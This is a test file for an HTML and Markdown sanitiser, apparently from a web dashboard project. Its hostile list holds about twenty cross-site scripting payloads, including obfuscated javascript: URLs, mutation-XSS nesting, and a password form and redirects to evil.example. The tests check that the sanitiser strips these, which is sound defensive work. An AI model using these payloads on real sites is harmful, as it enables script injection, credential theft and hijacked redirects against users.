import { describe, expect, it } from 'vitest';
import { markdownToHtml, maxTextLength, safeHtml } from '@/components/richtext/safeHtml';

function inserted(html: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = html;
  return element;
}

describe('safeHtml', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="  jAvAsCrIpT&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<style>body{display:none}</style>',
    '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>',
    '<div id=root name=cookie class="mantine-overlay">x</div>',
    '<video src=https://evil.example/x onloadstart=alert(1)></video>',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<dialog open>x</dialog><div popover>x</div>',
  ];
  it.each(hostile)('leaves nothing of %s that runs or reaches out', (html) => {
    for (const clean of [safeHtml(html), markdownToHtml(html)]) {
      const element = inserted(clean);
      expect(element.querySelector('script,iframe,object,embed,form,input,button,style,link,meta,base,svg,video,template,dialog,noscript script')).toBeNull();
      for (const one of element.querySelectorAll('*')) {
        for (const { name, value } of one.attributes) {
          expect(name).not.toMatch(/^on|^(id|name|class|srcdoc|srcset|popover)$/);
          expect(value).not.toMatch(/(java|vb)script:|^data:text/i);
        }
      }
    }
  });

  it('loads no picture of another host, and says where it is', () => {
    const element = inserted(safeHtml('<img src="https://elsewhere.example/logo.png" alt="Logo"><img src="//elsewhere.example/x.png" alt="odd"><img src="data:image/png;base64,AAAA" alt="own">'));
    expect([...element.querySelectorAll('img')].map((image) => image.getAttribute('alt'))).toEqual(['own']);
    expect(element.querySelector('a')).toHaveAttribute('href', 'https://elsewhere.example/logo.png');
    expect(element.textContent).toContain('Picture: Logo');
  });

  it('keeps styles of text, and none that place it elsewhere or load something', () => {
    const element = inserted(safeHtml('<p style="color: red; position: fixed; top: 0; z-index: 9; background-image: url(https://evil.example/x); text-align: center">x</p>'));
    const style = element.querySelector('p')?.getAttribute('style') ?? '';
    expect(style).toContain('color: red');
    expect(style).toContain('text-align: center');
    expect(style).not.toMatch(/position|z-index|url|top/);
  });

  it('opens other hosts in a page of their own, without a way back', () => {
    const link = inserted(safeHtml('<a href="https://example.org/x">x</a>')).querySelector('a');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link?.getAttribute('rel')).toContain('noopener');
  });

  it('cuts what is too long', () => {
    expect(safeHtml('x'.repeat(maxTextLength * 3)).length).toBe(maxTextLength);
  });
});

describe('markdownToHtml', () => {
  it('knows headings, lists, tables, code and links', () => {
    const element = inserted(markdownToHtml('# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```\n\n[link](https://example.org) and [own](/dashboards/x)'));
    expect(element.querySelector('h1')?.textContent).toBe('Title');
    expect(element.querySelectorAll('li')).toHaveLength(2);
    expect(element.querySelectorAll('td')).toHaveLength(2);
    expect(element.querySelector('pre')?.textContent).toContain('code');
    expect([...element.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual(['https://example.org', '/dashboards/x']);
  });

  it('makes no link out of a script', () => {
    expect(inserted(markdownToHtml('[x](javascript:alert(1)) [y](<javascript:alert(1)>) ![z](javascript:alert(1))')).querySelector('a[href],img')).toBeNull();
  });

  it('ends on deep nesting', () => {
    expect(markdownToHtml('>'.repeat(3000) + 'x').length).toBeGreaterThan(0);
  });
});
